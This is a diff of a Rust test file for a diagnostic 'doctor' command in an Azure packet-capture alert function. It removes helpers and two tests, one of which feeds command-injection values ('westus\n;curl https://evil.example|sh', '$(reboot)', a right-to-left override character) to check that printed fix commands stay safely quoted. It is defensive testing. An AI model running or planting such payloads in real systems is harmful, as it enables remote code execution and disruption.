@@ -1,14 +1,7 @@
 //! `handler doctor` about the function itself: its callers, its job queue and its notifications.
 
-use crate::support::{
-    folder::Folder,
-    practice::{Practice, faults},
-};
-use alert_packet_capture::{
-    app,
-    config::{AppSettings, QueueKind, Settings},
-    queue::JobQueue,
-};
+use super::*;
+use crate::support::folder::Folder;
 use azure_sandbox::{Call, Fault, FaultBody, What, samples};
 use serde_json::Value;
 use tokio::net::TcpListener;
@@ -17,15 +10,6 @@ const WEBHOOK: [(&str, &str); 2] = [
     ("SecureWebhook__TenantId", samples::TENANT_ID),
     ("SecureWebhook__Audience", "api://alerts.contoso.example"),
 ];
-
-fn found<'a>(checks: &'a [Value], check: &str) -> &'a Value {
-    let found = checks.iter().find(|it| it["check"] == check);
-    found.unwrap_or_else(|| panic!("no {check} in {checks:#?}"))
-}
-
-fn message(checks: &[Value], check: &str) -> String {
-    found(checks, check)["message"].as_str().unwrap().to_owned()
-}
 
 /// How it is broken, the check that reports it, its status, words of the message, and a part of the command.
 type Broken = (
@@ -326,63 +310,4 @@ async fn without_the_app_s_files_the_function_key_is_skipped() {
     assert_eq!(code, Some(0));
     assert_eq!(found(&checks, "function key")["status"], "skipped");
     assert!(message(&checks, "function key").contains("FUNCTIONS_APP_ROOT_PATH"));
-}
-
-#[tokio::test]
-async fn jobs_in_the_poison_queue_are_counted() {
-    let practice = Practice::open().await;
-    let settings: AppSettings = practice.settings.iter().cloned().collect();
-    let settings = Settings::read(&settings).unwrap();
-    let QueueKind::Storage(storage) = &settings.jobs.kind else {
-        panic!("a storage queue");
-    };
-    let queue = app::storage_queue(storage, 10, None).unwrap();
-    queue
-        .put(vec!["a".to_owned(), "b".to_owned()])
-        .await
-        .unwrap();
-    for _ in 0..2 {
-        let message = queue.receive().await;
-        queue.poison(&message, message.body.clone()).await.unwrap();
-    }
-    let (checks, code) = practice.checks().await;
-    let faults = faults(&checks);
-    assert_eq!((faults.len(), code), (1, Some(0)), "{checks:#?}");
-    assert_eq!((&*faults[0].0, &*faults[0].1), ("poison queue", "warning"));
-    assert!(message(&checks, "poison queue").starts_with("2 jobs in packet-capture-jobs-poison"));
-    let fix = "az storage message peek --queue-name packet-capture-jobs-poison --num-messages 32 --account-name stcaptures";
-    assert_eq!(faults[0].2, fix);
-}
-
-/// Whatever Azure and the settings hold, a printed command is one command, and a message is one line.
-#[tokio::test]
-async fn a_hostile_name_stays_one_word_of_one_command() {
-    let mut practice = Practice::open().await;
-    let region = "westus\n;curl https://evil.example|sh";
-    let id = samples::WEB_01.replace("web-01", "web-us");
-    practice.azure.add_vm(&id, region);
-    practice.arguments[1] = id;
-    practice.azure.remove_agent(&practice.arguments[1]);
-    practice.set("WEBSITE_SITE_NAME", "shop\u{202e}$(reboot)'");
-    practice.set("PacketCapture__ReplyWaitSeconds", "10");
-    let (checks, _) = practice.checks().await;
-    let commands: Vec<String> = faults(&checks).into_iter().map(|it| it.2).collect();
-    assert!(commands.len() >= 3, "{commands:?}");
-    for command in &commands {
-        assert!(!command.contains(|c: char| c.is_control() || c == '\u{202e}'));
-        let words = shlex::split(command).expect("balanced quotes");
-        assert!(
-            !words.iter().any(|it| it == "|sh" || it == ";curl"),
-            "{command}"
-        );
-        assert!(
-            !command.contains("$(reboot)") || command.contains("'shop"),
-            "{command}"
-        );
-    }
-    let text = String::from_utf8(practice.ask(&[]).await.stdout).unwrap();
-    assert!(
-        !text.lines().any(|line| line.starts_with(";curl")),
-        "{text}"
-    );
 }
